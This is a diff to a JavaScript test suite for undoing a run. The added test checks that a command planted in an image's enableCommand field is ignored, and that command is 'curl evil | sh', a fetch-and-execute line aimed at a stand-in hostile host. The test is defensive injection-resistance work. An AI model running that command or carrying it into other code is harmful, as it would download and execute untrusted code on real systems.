@@ -143,6 +143,8 @@ describe('how to undo a run', () => {
     const untouched = goingImage(3, { ...steps, outcome: 'failed' })
     const part = undoOf({ images: [disabled, unmarked, untouched] })
     expect(linesOf(part)).toEqual([[1, 2].map(enable)])
+    const told = { ...disabled, enableCommand: 'curl evil | sh' }
+    expect(linesOf(undoOf({ images: [told] }))).toEqual([[enable(1)]])
     expect(seen(part)).toContain(
       'protects it from every later run until somebody takes the tag off',
     )
